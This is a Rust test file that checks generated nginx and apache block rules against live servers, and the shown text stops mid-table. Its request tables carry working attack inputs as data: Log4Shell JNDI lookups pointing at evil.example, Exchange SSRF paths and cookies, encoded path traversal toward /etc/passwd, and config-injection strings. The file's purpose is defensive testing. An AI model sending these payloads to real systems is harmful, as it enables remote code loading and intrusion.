//! url-block rules as real nginx and apache httpd read and enforce them: after
//! `airlock-applier apply` on the sample nginx host (web01) and apache host (git01),
//! a server config that includes the airlock directory in a `server {}` block /
//! `<VirtualHost>` passes `nginx -t` / `apache2 -t`, a live server on 127.0.0.1
//! answers every url-block of the samples with its status (nginx drops the
//! connection for `abort`, apache answers 403) for requests that carry the
//! trigger, and 200 for near misses; after `rollback --all` and a restart every
//! request gets 200 again. Hostile but valid patterns (quotes, braces, `;`, `#`,
//! `$`, backslashes, leading `!`/`-`/`=`/`<`/`>`, header names with `-` and `_`)
//! render as exactly the expected directive shapes, pass the config checks, and
//! block exactly the request carrying the literal text they describe. Every status
//! the format allows, `${NAME}` inside a class and 1024-byte patterns (the format's
//! limit) are checked the same way; statuses a server would not answer as written
//! are refused by `feed publish`. (Each of those four checks found a renderer or
//! format bug, since fixed.)
//!
//! Requests are written byte for byte on a `TcpStream` (no HTTP client), so the
//! path, query and headers are exactly what the table says; a connection closed
//! without a status line counts as dropped. Each test has its own fixture, host,
//! server directory and port. Without nginx, apache2 or systemctl (the sample
//! AM-2021-0002 masks units) a test prints SKIPPED and passes, except under
//! `CI=true`.
#![cfg(unix)]
#![allow(clippy::unwrap_used)] // test code: a panic is a test failure

use airlock_tests::{Fixture, Host, Run, require_tool, root};
use std::fmt::Write as _;
use std::io::{ErrorKind, Read, Write};
use std::net::{TcpListener, TcpStream};
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

/// The web server under test.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Server {
    Nginx,
    Apache,
}

impl Server {
    /// The program.
    fn tool(self) -> &'static str {
        match self {
            Server::Nginx => "nginx",
            Server::Apache => "apache2",
        }
    }
    /// `samples/profiles/NAME.toml`.
    fn profile(self) -> &'static str {
        match self {
            Server::Nginx => "nginx",
            Server::Apache => "apache",
        }
    }
    /// `samples/hosts/NAME`.
    fn host_root(self) -> &'static str {
        match self {
            Server::Nginx => "web01",
            Server::Apache => "git01",
        }
    }
    /// The profile's `web.include_dir`.
    fn include_dir(self) -> &'static str {
        match self {
            Server::Nginx => "/etc/nginx/airlock.d",
            Server::Apache => "/etc/apache2/airlock.d",
        }
    }
}

/// What a request got.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Got {
    /// A response with this status.
    Status(u16),
    /// The connection was closed without a status line.
    Dropped,
}

/// What a request should get.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Want {
    /// 200 from the server's catch-all.
    Pass,
    /// The rule's status.
    Status(u16),
    /// The rule's `abort`: nginx drops the connection, apache answers 403.
    Abort,
    /// The servers differ (see the row's comment).
    Differs { nginx: Got, apache: Got },
}

impl Want {
    fn on(self, server: Server) -> Got {
        match (self, server) {
            (Want::Pass, _) => Got::Status(200),
            (Want::Status(n), _) => Got::Status(n),
            (Want::Abort, Server::Nginx) => Got::Dropped,
            (Want::Abort, Server::Apache) => Got::Status(403),
            (Want::Differs { nginx, .. }, Server::Nginx) => nginx,
            (Want::Differs { apache, .. }, Server::Apache) => apache,
        }
    }
}

/// One request of a table: (mitigation, url-block, request target, headers, expected).
type Row<'a> = (&'a str, &'a str, &'a str, &'a [(&'a str, &'a str)], Want);

const ABORT: Want = Want::Abort;
const PASS: Want = Want::Pass;
const S403: Want = Want::Status(403);

/// Every url-block of the samples: requests that carry the trigger, and near misses.
/// Paths are matched decoded (nginx `$uri`, apache `%{REQUEST_URI}`), query strings
/// and header values as sent.
#[rustfmt::skip]
const SAMPLE_ROWS: &[Row<'static>] = &[
    // AM-2021-0001 autodiscover-ssrf: path (?i)autodiscover\.json.*@.*powershell
    ("AM-2021-0001", "autodiscover-ssrf", "/autodiscover/autodiscover.json/@evil.example/powershell", &[], ABORT),
    ("AM-2021-0001", "autodiscover-ssrf", "/AutoDiscover/AutoDiscover.JSON/x@evil.example/PowerShell", &[], ABORT),
    // the path is matched decoded: %40 is @
    ("AM-2021-0001", "autodiscover-ssrf", "/autodiscover/autodiscover.json/%40evil.example/powershell", &[], ABORT),
    ("AM-2021-0001", "autodiscover-ssrf", "/autodiscover/autodiscover.json/evil.example/powershell", &[], PASS),
    // `\.` is a literal dot
    ("AM-2021-0001", "autodiscover-ssrf", "/autodiscover/autodiscoverXjson/@evil.example/powershell", &[], PASS),
    // AM-2021-0001 autodiscover-ssrf-query: path (?i)/autodiscover/autodiscover\.json AND query (?i)@.*powershell
    ("AM-2021-0001", "autodiscover-ssrf-query", "/autodiscover/autodiscover.json?@evil.example/PowerShell", &[], ABORT),
    ("AM-2021-0001", "autodiscover-ssrf-query", "/Autodiscover/Autodiscover.json?a=x@evil.example/powershell&b=1", &[], ABORT),
    ("AM-2021-0001", "autodiscover-ssrf-query", "/autodiscover/autodiscover.json?evil.example/powershell", &[], PASS),
    // both conditions must hold
    ("AM-2021-0001", "autodiscover-ssrf-query", "/owa/autodiscover.json?@evil.example/powershell", &[], PASS),
    // the query is matched as sent: %40 is not @
    ("AM-2021-0001", "autodiscover-ssrf-query", "/autodiscover/autodiscover.json?%40evil.example/powershell", &[], PASS),
    // AM-2021-0002 x-anonresource-backend: header Cookie (?i)X-AnonResource-Backend=.*/ecp/.*~.*
    ("AM-2021-0002", "x-anonresource-backend", "/ecp/y.js", &[("Cookie", "X-AnonResource-Backend=localhost/ecp/default.flt?~3")], ABORT),
    ("AM-2021-0002", "x-anonresource-backend", "/ecp/y.js", &[("Cookie", "a=b; x-anonresource-backend=LOCALHOST/ECP/x~1")], ABORT),
    ("AM-2021-0002", "x-anonresource-backend", "/ecp/y.js", &[("Cookie", "X-AnonResource-Backend=localhost/ecp/default.flt")], PASS),
    ("AM-2021-0002", "x-anonresource-backend", "/ecp/y.js", &[("Cookie", "X-AnonResource-Backend=localhost/owa/~3")], PASS),
    // the same text in another header than Cookie
    ("AM-2021-0002", "x-anonresource-backend", "/ecp/y.js", &[("X-AnonResource-Backend", "localhost/ecp/default.flt?~3")], PASS),
    // AM-2021-0002 x-beresource: header Cookie (?i)X-BEResource=.+/.+~.+
    ("AM-2021-0002", "x-beresource", "/ecp/y.js", &[("Cookie", "X-BEResource=localhost/owa/auth/logon.aspx~1942062522")], ABORT),
    ("AM-2021-0002", "x-beresource", "/ecp/y.js", &[("Cookie", "x-beresource=A/B~C")], ABORT),
    ("AM-2021-0002", "x-beresource", "/ecp/y.js", &[("Cookie", "X-BEResource=localhost~1942062522")], PASS),
    ("AM-2021-0002", "x-beresource", "/ecp/y.js", &[("Cookie", "X-BEResource=/~")], PASS),
    ("AM-2021-0002", "x-beresource", "/ecp/y.js", &[("X-BEResource", "localhost/owa/auth/logon.aspx~1")], PASS),
    // AM-2021-0003 jndi-lookup-query: query (?i)(\$|%24)(\{|%7b)jndi(:|%3a)
    ("AM-2021-0003", "jndi-lookup-query", "/?x=${jndi:ldap://evil.example/a}", &[], S403),
    ("AM-2021-0003", "jndi-lookup-query", "/search?q=%24%7Bjndi%3Aldap://evil.example/a%7D", &[], S403),
    ("AM-2021-0003", "jndi-lookup-query", "/?q=%24%7bJNDI%3a", &[], S403),
    ("AM-2021-0003", "jndi-lookup-query", "/?q=jndi:ldap://evil.example/a", &[], PASS),
    ("AM-2021-0003", "jndi-lookup-query", "/?x=$jndi:", &[], PASS),
    // the rule looks at the query only
    ("AM-2021-0003", "jndi-lookup-query", "/%24%7Bjndi:ldap:/evil.example/a%7D", &[], PASS),
    // AM-2021-0003 obfuscated-lookup-query
    ("AM-2021-0003", "obfuscated-lookup-query", "/?a=${${::-j}ndi:ldap://evil.example/a}", &[], S403),
    ("AM-2021-0003", "obfuscated-lookup-query", "/?a=${lower:j}ndi", &[], S403),
    ("AM-2021-0003", "obfuscated-lookup-query", "/?a=%24%7bupper%3aj%7d", &[], S403),
    ("AM-2021-0003", "obfuscated-lookup-query", "/?a=${env:X:-j}", &[], S403),
    ("AM-2021-0003", "obfuscated-lookup-query", "/?a=%24%7B%3a%3a-j%7D", &[], S403),
    ("AM-2021-0003", "obfuscated-lookup-query", "/?a=${lowerj}", &[], PASS),
    // date: is only in the header rules
    ("AM-2021-0003", "obfuscated-lookup-query", "/?a=${date:YYYY}", &[], PASS),
    // AM-2021-0003 lookup-user-agent: (?i)\$\{(jndi:|lower:|upper:|env:|sys:|date:|::-|\$\{)
    ("AM-2021-0003", "lookup-user-agent", "/", &[("User-Agent", "${jndi:ldap://evil.example/a}")], S403),
    ("AM-2021-0003", "lookup-user-agent", "/", &[("User-Agent", "Mozilla/5.0 ${SYS:user.home}")], S403),
    ("AM-2021-0003", "lookup-user-agent", "/", &[("user-agent", "${${lower:j}ndi:x}")], S403),
    // header values are not decoded
    ("AM-2021-0003", "lookup-user-agent", "/", &[("User-Agent", "%24%7Bjndi:ldap://evil.example/a%7D")], PASS),
    ("AM-2021-0003", "lookup-user-agent", "/", &[("User-Agent", "Mozilla/5.0 {jndi:x} $")], PASS),
    // AM-2021-0003 lookup-referer
    ("AM-2021-0003", "lookup-referer", "/", &[("Referer", "https://example.com/${date:YYYY}")], S403),
    ("AM-2021-0003", "lookup-referer", "/", &[("Referer", "https://example.com/?q=jndi:ldap")], PASS),
    // AM-2021-0003 lookup-x-forwarded-for
    ("AM-2021-0003", "lookup-x-forwarded-for", "/", &[("X-Forwarded-For", "${::-j}${::-n}di")], S403),
    ("AM-2021-0003", "lookup-x-forwarded-for", "/", &[("X-Forwarded-For", "10.0.0.1, 192.0.2.7")], PASS),
    // AM-2021-0003 lookup-x-api-version
    ("AM-2021-0003", "lookup-x-api-version", "/", &[("X-Api-Version", "${${env:N:-j}ndi")], S403),
    ("AM-2021-0003", "lookup-x-api-version", "/", &[("x-api-version", "${env:HOME}")], S403),
    ("AM-2021-0003", "lookup-x-api-version", "/", &[("X-Api-Version", "1.0")], PASS),
    ("AM-2021-0003", "lookup-x-api-version", "/", &[("X-Api-Versions", "${jndi:x}")], PASS),
    // AM-2021-0004 encoded-dot-segment: path (?i)(\.|%2e|%%32%65)(\.|%2e|%%32%65)(/|%2f)
    // (the servers decode the path and resolve real dot segments before any rule, so
    // the trigger is what survives that: doubly encoded dots, or dots inside a segment)
    ("AM-2021-0004", "encoded-dot-segment", "/icons/.%252e/x", &[], S403),
    ("AM-2021-0004", "encoded-dot-segment", "/icons/%252E%252e%252Fetc/passwd", &[], S403),
    ("AM-2021-0004", "encoded-dot-segment", "/icons/.%25%2532%2565/x", &[], S403),
    ("AM-2021-0004", "encoded-dot-segment", "/icons/x../y", &[], S403),
    ("AM-2021-0004", "encoded-dot-segment", "/icons/x.y/z", &[], PASS),
    ("AM-2021-0004", "encoded-dot-segment", "/icons/..x/y", &[], PASS),
    // AM-2021-0004 cgi-bin-encoded-dot: path (?i)^/cgi-bin/.*(%2e|%%32%65)
    ("AM-2021-0004", "cgi-bin-encoded-dot", "/cgi-bin/a%252Eb", &[], S403),
    ("AM-2021-0004", "cgi-bin-encoded-dot", "/CGI-BIN/test%25%2532%2565cgi", &[], S403),
    ("AM-2021-0004", "cgi-bin-encoded-dot", "/cgi-bin/test.cgi", &[], PASS),
    ("AM-2021-0004", "cgi-bin-encoded-dot", "/static/cgi-bin/a%252eb", &[], PASS),
    // AM-2022-0002 migrate-endpoints: path (?i)^/(repo/migrate|api/v1/repos/migrate)
    ("AM-2022-0002", "migrate-endpoints", "/repo/migrate", &[], S403),
    ("AM-2022-0002", "migrate-endpoints", "/API/V1/repos/migrate?service_type=2", &[], S403),
    ("AM-2022-0002", "migrate-endpoints", "/repo/%6Digrate", &[], S403),
    ("AM-2022-0002", "migrate-endpoints", "/user/repo/migrate", &[], PASS),
    ("AM-2022-0002", "migrate-endpoints", "/repo/migrat", &[], PASS),
    ("AM-2022-0002", "migrate-endpoints", "/?next=/repo/migrate", &[], PASS),
];

/// The sample mitigations with url-blocks.
const URL_BLOCK_SAMPLES: &[&str] = &[
    "AM-2021-0001",
    "AM-2021-0002",
    "AM-2021-0003",
    "AM-2021-0004",
    "AM-2022-0002",
];

/// Product versions that make every [`URL_BLOCK_SAMPLES`] document apply (the
/// exchange build is in both AM-2021-0001's and AM-2021-0002's ranges).
const ALL_URL_BLOCK_PRODUCTS: &[(&str, &str)] = &[
    ("exchange", "15.1.2106.12"),
    ("log4j-core", "2.14.1"),
    ("apache", "2.4.49"),
    ("gitea", "1.16.0"),
];

// ---------------------------------------------------------------------------
// Tests.

#[test]
fn nginx_t_accepts_the_sample_rules() {
    syntax(Server::Nginx, "nginx_t_accepts_the_sample_rules");
}

#[test]
fn apache2_t_accepts_the_sample_rules() {
    syntax(Server::Apache, "apache2_t_accepts_the_sample_rules");
}

#[test]
fn nginx_enforces_every_sample_url_block_live() {
    live(Server::Nginx, "nginx_enforces_every_sample_url_block_live");
}

#[test]
fn apache_enforces_every_sample_url_block_live() {
    live(
        Server::Apache,
        "apache_enforces_every_sample_url_block_live",
    );
}

#[test]
fn nginx_hostile_patterns_stay_inside_their_strings() {
    custom(
        Server::Nginx,
        "nginx_hostile_patterns_stay_inside_their_strings",
        HOSTILE_RULES,
        HOSTILE_ROWS,
    );
}

#[test]
fn apache_hostile_patterns_stay_inside_their_strings() {
    custom(
        Server::Apache,
        "apache_hostile_patterns_stay_inside_their_strings",
        HOSTILE_RULES,
        HOSTILE_ROWS,
    );
}

#[test]
fn nginx_dollar_brace_in_a_class_is_literal() {
    custom(
        Server::Nginx,
        "nginx_dollar_brace_in_a_class_is_literal",
        DOLLAR_BRACE_RULES,
        DOLLAR_BRACE_ROWS,
    );
}

#[test]
fn apache_dollar_brace_in_a_class_is_literal() {
    custom(
        Server::Apache,
        "apache_dollar_brace_in_a_class_is_literal",
        DOLLAR_BRACE_RULES,
        DOLLAR_BRACE_ROWS,
    );
}

#[test]
fn nginx_answers_every_status_the_format_allows() {
    custom(
        Server::Nginx,
        "nginx_answers_every_status_the_format_allows",
        &status_table().0,
        &status_table().1,
    );
}

#[test]
fn apache_answers_every_status_the_format_allows() {
    custom(
        Server::Apache,
        "apache_answers_every_status_the_format_allows",
        &status_table().0,
        &status_table().1,
    );
}

#[test]
fn statuses_a_server_would_not_answer_as_written_are_refused_at_publish() {
    // nginx closes the connection for 408 and 499 and answers 400 for 494-497;
    // mod_rewrite refuses 418, 460, 509, 599 (`apache2 -t` would fail).
    for status in [408, 418, 444, 460, 494, 499, 509, 599] {
        let fx = Fixture::empty();
        let rules = [rule("s", &[("path", "^/x$")], Want::Status(status))];
        std::fs::write(
            fx.feed().join(format!("mitigations/{CUSTOM_ID}.xml")),
            custom_xml(&rules),
        )
        .unwrap();
        let r = airlock_tests::bundler([
            "feed".as_ref(),
            "publish".as_ref(),
            fx.feed().as_os_str(),
            "--key".as_ref(),
            fx.key("vendor.key").as_os_str(),
        ])
        .expect(3);
        assert!(
            r.stderr.contains(&format!("response status '{status}'"))
                && r.stderr.contains("nginx, apache and IIS"),
            "{status}: {}",
            r.stderr
        );
    }
}

#[test]
fn nginx_longest_patterns() {
    longest_patterns(Server::Nginx, "nginx_longest_patterns");
}

#[test]
fn apache_longest_patterns() {
    longest_patterns(Server::Apache, "apache_longest_patterns");
}

/// Patterns of the largest size the format allows (1024 bytes), made of the
/// characters the renderers expand most (a quote becomes `\\x22` in nginx's string).
fn longest_patterns(server: Server, test: &str) {
    let quotes = "\"".repeat(1024);
    let backslashes = r"\\".repeat(512);
    let quote_match = [("header:X-Quotes", quotes.as_str())];
    let backslash_match = [("header:X-Backslashes", backslashes.as_str())];
    let rules = [
        rule("quotes", &quote_match, Want::Status(405)),
        rule("backslashes", &backslash_match, Want::Status(406)),
    ];
    let (q1024, q1023) = ("\"".repeat(1024), "\"".repeat(1023));
    let (b512, b511) = (r"\".repeat(512), r"\".repeat(511));
    #[rustfmt::skip]
    let rows: [Row<'_>; 4] = [
        (CUSTOM_ID, "quotes", "/", &[("X-Quotes", q1024.as_str())], Want::Status(405)),
        (CUSTOM_ID, "quotes", "/", &[("X-Quotes", q1023.as_str())], PASS),
        (CUSTOM_ID, "backslashes", "/", &[("X-Backslashes", b512.as_str())], Want::Status(406)),
        (CUSTOM_ID, "backslashes", "/", &[("X-Backslashes", b511.as_str())], PASS),
    ];
    custom(server, test, &rules, &rows);
}

#[test]
fn the_sample_table_covers_every_url_block() {
    let mut blocks = Vec::new();
    for id in URL_BLOCK_SAMPLES {
        let text =
            std::fs::read_to_string(root().join(format!("samples/feed/mitigations/{id}.xml")))
                .unwrap();
        for part in text.split("<url-block name=\"").skip(1) {
            blocks.push((*id, part.split('"').next().unwrap().to_string()));
        }
    }
    assert_eq!(blocks.len(), 13, "{blocks:?}");
    let mut missing = Vec::new();
    for (id, name) in &blocks {
        let rows: Vec<&Row<'_>> = SAMPLE_ROWS
            .iter()
            .filter(|r| r.0 == *id && r.1 == name)
            .collect();
        if !rows.iter().any(|r| r.4 != PASS) || !rows.iter().any(|r| r.4 == PASS) {
            missing.push(format!("{id} {name}"));
        }
    }
    assert!(
        missing.is_empty(),
        "url-blocks without both a matching and a near-miss request: {missing:?}"
    );
    for r in SAMPLE_ROWS {
        assert!(
            blocks.iter().any(|(id, name)| *id == r.0 && name == r.1),
            "row names an unknown url-block: {} {}",
            r.0,
            r.1
        );
    }
}

// ---------------------------------------------------------------------------
// The scenarios.

/// Both tools are there (or the test is skipped, and says so).
fn tools(server: Server, test: &str) -> bool {
    require_tool(server.tool(), test) && require_tool("systemctl", test)
}

/// The sample host of `server` with every url-block sample applicable, the sample
/// bundle applied.
fn applied_sample_host(server: Server, fx: &Fixture) -> Host {
    fx.fetch().expect(0);
    let bundle = fx.path("samples.airlock");
    fx.build(&bundle, &[]).expect(0);
    let host = Host::sample(server.profile(), server.host_root(), fx);
    set_products(&host, ALL_URL_BLOCK_PRODUCTS);
    // The other actions of those mitigations need their directories (airlock never
    // creates one): AM-2021-0004's drop-in and AM-2022-0002's app.ini.
    std::fs::create_dir_all(host.file("/etc/apache2/conf-enabled")).unwrap();
    std::fs::create_dir_all(host.file("/etc/gitea")).unwrap();
    if !host.file("/etc/gitea/app.ini").exists() {
        std::fs::copy(
            root().join("samples/hosts/git01/etc/gitea/app.ini"),
            host.file("/etc/gitea/app.ini"),
        )
        .unwrap();
    }
    host.applier(&["init"]).expect(0);
    apply(&host, &bundle);
    for id in URL_BLOCK_SAMPLES {
        let f = rules_file(&host, server, id);
        assert!(f.is_file(), "{} was not written by apply", f.display());
    }
    host
}

fn syntax(server: Server, test: &str) {
    if !tools(server, test) {
        return;
    }
    let fx = Fixture::samples();
    let host = applied_sample_host(server, &fx);
    let web = Web::new(server, &host, &[]);
    web.check().expect(0);
    for id in URL_BLOCK_SAMPLES {
        check_shapes(
            server,
            &std::fs::read_to_string(rules_file(&host, server, id)).unwrap(),
        );
    }
}

fn live(server: Server, test: &str) {
    if !tools(server, test) {
        return;
    }
    let t0 = Instant::now();
    let fx = Fixture::samples();
    let host = applied_sample_host(server, &fx);
    let mut web = Web::new(server, &host, &[]);
    web.start();
    web.expect_rows(SAMPLE_ROWS, |w| w.on(server), "with the sample rules");

    host.applier(&["rollback", "--all"]).expect(0);
    for id in URL_BLOCK_SAMPLES {
        let f = rules_file(&host, server, id);
        assert!(!f.exists(), "{} is still there after rollback", f.display());
    }
    web.restart();
    web.expect_rows(SAMPLE_ROWS, |_| Got::Status(200), "after rollback --all");
    eprintln!(
        "{test}: {} requests x 2, {:.1?}",
        SAMPLE_ROWS.len(),
        t0.elapsed()
    );
}

/// A custom mitigation `CUSTOM_ID` with `rules`, applied on the sample host of
/// `server` (product `probe`), checked with `-t`, against `rows` live, and after
/// rollback.
fn custom(server: Server, test: &str, rules: &[Rule<'_>], rows: &[Row<'_>]) {
    if !require_tool(server.tool(), test) {
        return;
    }
    let fx = Fixture::empty();
    std::fs::write(
        fx.feed().join(format!("mitigations/{CUSTOM_ID}.xml")),
        custom_xml(rules),
    )
    .unwrap();
    fx.publish(&[]);
    fx.fetch().expect(0);
    let bundle = fx.path("custom.airlock");
    fx.build(&bundle, &[]).expect(0);
    let host = Host::sample(server.profile(), server.host_root(), &fx);
    set_products(&host, &[("probe", "1.0")]);
    host.applier(&["init"]).expect(0);
    apply(&host, &bundle);

    let text = std::fs::read_to_string(rules_file(&host, server, CUSTOM_ID)).unwrap();
    check_shapes(server, &text);
    let conditions: usize = rules.iter().map(|r| r.matches.len()).sum();
    let (conds, finals) = match server {
        Server::Nginx => (
            text.lines()
                .filter(|l| l.starts_with("if ($") && l.contains('"'))
                .count(),
            text.lines()
                .filter(|l| l.starts_with("if (") && !l.contains('"'))
                .count(),
        ),
        Server::Apache => (
            text.lines()
                .filter(|l| l.starts_with("RewriteCond "))
                .count(),
            0,
        ),
    };
    assert_eq!(conds, conditions, "one condition line per <match>:\n{text}");
    let multi = rules.iter().filter(|r| r.matches.len() > 1).count();
    if server == Server::Nginx {
        assert_eq!(
            finals, multi,
            "one flag test per multi-condition rule:\n{text}"
        );
    }

    // A server block that accepts header names with `_` (nginx's default drops
    // them, so neither a rule nor the application ever sees them).
    let mut web = Web::new(server, &host, &["underscores_in_headers on;"]);
    let check = web.check();
    assert_eq!(
        check.code,
        0,
        "{} -t refused the rendered rules:\n{}\n{}\n--- {}:\n{text}",
        server.tool(),
        check.stdout,
        check.stderr,
        rules_file(&host, server, CUSTOM_ID).display()
    );
    web.start();
    web.expect_rows(
        rows,
        |w| w.on(server),
        "with the rules of the custom document",
    );
    if server == Server::Apache {
        // apache substitutes `${NAME}` (a Define or an environment variable) in
        // every config line before the directive reads it
        for line in text.lines().filter(|l| !l.starts_with('#')) {
            assert!(
                !line.contains("${"),
                "`${{` in an apache config line is a variable reference:\n{line}"
            );
        }
    }
    host.applier(&["rollback", "--all"]).expect(0);
    web.restart();
    web.expect_rows(rows, |_| Got::Status(200), "after rollback --all");
}

// ---------------------------------------------------------------------------
// Custom documents.

const CUSTOM_ID: &str = "AM-2099-0901";

/// A url-block of a generated document: name, (on, pattern) conditions, response.
#[derive(Debug)]
struct Rule<'a> {
    name: &'a str,
    matches: &'a [(&'a str, &'a str)],
    response: Want,
}

const fn rule<'a>(name: &'a str, matches: &'a [(&'a str, &'a str)], response: Want) -> Rule<'a> {
    Rule {
        name,
        matches,
        response,
    }
}

/// Patterns full of characters that end strings, blocks or directives in nginx and
/// apache configs, all in the portable subset (format/src/pattern.rs). Each rule has
/// its own status (ones apache knows: see `apache_answers_every_status_the_format_allows`).
#[rustfmt::skip]
const HOSTILE_RULES: &[Rule<'static>] = &[
    // a quote, a brace and a `return` that would end nginx's string and block
    rule("quote-brace-return", &[("header:X-Quote", r#"\";\}return 200;#"#)], Want::Status(405)),
    rule("raw-quote", &[("header:X-Raw-Quote", r#"^a"b;$"#)], Want::Status(406)),
    rule("dollar-braces", &[("header:X-Dollar", r"\{\}\$\{x\}")], Want::Status(409)),
    rule("class", &[("header:X-Class", r#"^a[;{}"'$#]b$"#)], Want::Status(410)),
    rule("header-name", &[("header:X-Under_score-Dash", "(?i)^evil$")], Want::Status(411)),
    rule("backslash", &[("header:X-Backslash", r"a\\b")], Want::Status(412)),
    // a literal backslash before `t` must not become a tab
    rule("backslash-t", &[("header:X-Backslash-T", r"^q\\tq$")], Want::Status(415)),
    rule("hex-quote", &[("header:X-Hex", r"^a\x22b$")], Want::Status(416)),
    rule("path-punct", &[("path", r"^/p;\}\{\$#'")], Want::Status(417)),
    rule("query-punct", &[("query", r"^\$\{x\};'")], Want::Status(422)),
    // first characters mod_rewrite reads as operators (negation, file tests, comparisons)
    rule("bang", &[("header:X-Bang", "!x")], Want::Status(423)),
    rule("dash", &[("header:X-Dash", "-d")], Want::Status(424)),
    rule("equals", &[("header:X-Eq", "=a")], Want::Status(426)),
    rule("less", &[("header:X-Lt", "<m")], Want::Status(428)),
    rule("greater", &[("header:X-Gt", ">m")], Want::Status(429)),
    // several conditions (nginx: a flag variable)
    rule("multi", &[("path", r"^/multi\}$"), ("header:X-Multi", r"\};"), ("query", r"^b\#?$|^a=\{$")], Want::Status(431)),
    rule("abort", &[("header:X-Abort", r"^\#;\\$")], ABORT),
    // a pattern ending in a backslash (apache joins a line ending in `\` to the next one)
    rule("trailing-backslash", &[("header:X-Tail", r"tail\\")], Want::Status(451)),
];

#[rustfmt::skip]
const HOSTILE_ROWS: &[Row<'static>] = &[
    (CUSTOM_ID, "quote-brace-return", "/", &[("X-Quote", "\";}return 200;#")], Want::Status(405)),
    (CUSTOM_ID, "quote-brace-return", "/", &[("X-Quote", "x\";}return 200;#x")], Want::Status(405)),
    (CUSTOM_ID, "quote-brace-return", "/", &[("X-Quote", ";}return 200;#")], PASS),
    (CUSTOM_ID, "quote-brace-return", "/", &[("X-Quote", "\"}return 200;#")], PASS),
    (CUSTOM_ID, "quote-brace-return", "/", &[("X-Quote", "\\\";}return 200;#")], Want::Status(405)),
    (CUSTOM_ID, "raw-quote", "/", &[("X-Raw-Quote", "a\"b;")], Want::Status(406)),
    (CUSTOM_ID, "raw-quote", "/", &[("X-Raw-Quote", "ab;")], PASS),
    (CUSTOM_ID, "raw-quote", "/", &[("X-Raw-Quote", "a\\\"b;")], PASS),
    (CUSTOM_ID, "dollar-braces", "/", &[("X-Dollar", "{}${x}")], Want::Status(409)),
    (CUSTOM_ID, "dollar-braces", "/", &[("X-Dollar", "{}$x")], PASS),
    (CUSTOM_ID, "dollar-braces", "/", &[("X-Dollar", "{}${X}")], PASS),
    (CUSTOM_ID, "class", "/", &[("X-Class", "a;b")], Want::Status(410)),
    (CUSTOM_ID, "class", "/", &[("X-Class", "a{b")], Want::Status(410)),
    (CUSTOM_ID, "class", "/", &[("X-Class", "a}b")], Want::Status(410)),
    (CUSTOM_ID, "class", "/", &[("X-Class", "a\"b")], Want::Status(410)),
    (CUSTOM_ID, "class", "/", &[("X-Class", "a'b")], Want::Status(410)),
    (CUSTOM_ID, "class", "/", &[("X-Class", "a$b")], Want::Status(410)),
    (CUSTOM_ID, "class", "/", &[("X-Class", "a#b")], Want::Status(410)),
    (CUSTOM_ID, "class", "/", &[("X-Class", "a,b")], PASS),
    (CUSTOM_ID, "class", "/", &[("X-Class", "a\\b")], PASS),
    (CUSTOM_ID, "class", "/", &[("X-Class", "ab")], PASS),
    (CUSTOM_ID, "header-name", "/", &[("X-Under_score-Dash", "evil")], Want::Status(411)),
    (CUSTOM_ID, "header-name", "/", &[("x-under_score-dash", "EVIL")], Want::Status(411)),
    (CUSTOM_ID, "header-name", "/", &[("X-Under_score-Dash", "evil2")], PASS),
    // nginx names the header `$http_x_under_score_dash`, which both spellings fill
    (CUSTOM_ID, "header-name", "/", &[("X-Under-score-Dash", "evil")], Want::Differs { nginx: Got::Status(411), apache: Got::Status(200) }),
    (CUSTOM_ID, "backslash", "/", &[("X-Backslash", "a\\b")], Want::Status(412)),
    (CUSTOM_ID, "backslash", "/", &[("X-Backslash", "ab")], PASS),
    (CUSTOM_ID, "backslash", "/", &[("X-Backslash", "a\\\\b")], PASS),
    (CUSTOM_ID, "backslash", "/", &[("X-Backslash", "a/b")], PASS),
    (CUSTOM_ID, "backslash-t", "/", &[("X-Backslash-T", "q\\tq")], Want::Status(415)),
    (CUSTOM_ID, "backslash-t", "/", &[("X-Backslash-T", "q\tq")], PASS),
    (CUSTOM_ID, "backslash-t", "/", &[("X-Backslash-T", "qtq")], PASS),
    (CUSTOM_ID, "hex-quote", "/", &[("X-Hex", "a\"b")], Want::Status(416)),
    (CUSTOM_ID, "hex-quote", "/", &[("X-Hex", "a\\x22b")], PASS),
    (CUSTOM_ID, "hex-quote", "/", &[("X-Hex", "ab")], PASS),
    (CUSTOM_ID, "path-punct", "/p;%7D%7B%24%23'", &[], Want::Status(417)),
    (CUSTOM_ID, "path-punct", "/p;%7D%7B%24'", &[], PASS),
    (CUSTOM_ID, "path-punct", "/p;%7D%7B%24%23", &[], PASS),
    (CUSTOM_ID, "query-punct", "/?${x};'", &[], Want::Status(422)),
    // the query is matched as sent
    (CUSTOM_ID, "query-punct", "/?%24%7Bx%7D;'", &[], PASS),
    (CUSTOM_ID, "query-punct", "/?${x}'", &[], PASS),
    (CUSTOM_ID, "bang", "/", &[("X-Bang", "a!x")], Want::Status(423)),
    (CUSTOM_ID, "bang", "/", &[("X-Bang", "y")], PASS),
    (CUSTOM_ID, "bang", "/", &[("X-Bang", "x")], PASS),
    (CUSTOM_ID, "dash", "/", &[("X-Dash", "-d")], Want::Status(424)),
    (CUSTOM_ID, "dash", "/", &[("X-Dash", "/")], PASS),
    (CUSTOM_ID, "dash", "/", &[("X-Dash", "d")], PASS),
    (CUSTOM_ID, "equals", "/", &[("X-Eq", "x=a")], Want::Status(426)),
    (CUSTOM_ID, "equals", "/", &[("X-Eq", "a")], PASS),
    (CUSTOM_ID, "less", "/", &[("X-Lt", "<m")], Want::Status(428)),
    (CUSTOM_ID, "less", "/", &[("X-Lt", "a")], PASS),
    (CUSTOM_ID, "greater", "/", &[("X-Gt", ">m")], Want::Status(429)),
    (CUSTOM_ID, "greater", "/", &[("X-Gt", "z")], PASS),
    (CUSTOM_ID, "multi", "/multi%7D?b", &[("X-Multi", "};")], Want::Status(431)),
    (CUSTOM_ID, "multi", "/multi%7D", &[("X-Multi", "};")], PASS),
    (CUSTOM_ID, "multi", "/multi%7D?a={", &[("X-Multi", "x};x")], Want::Status(431)),
    (CUSTOM_ID, "multi", "/multi%7D?a=%7B", &[("X-Multi", "};")], PASS),
    (CUSTOM_ID, "multi", "/multi%7D", &[("X-Multi", "}")], PASS),
    (CUSTOM_ID, "multi", "/multi", &[("X-Multi", "};")], PASS),
    (CUSTOM_ID, "abort", "/", &[("X-Abort", "#;\\")], ABORT),
    (CUSTOM_ID, "abort", "/", &[("X-Abort", "#;")], PASS),
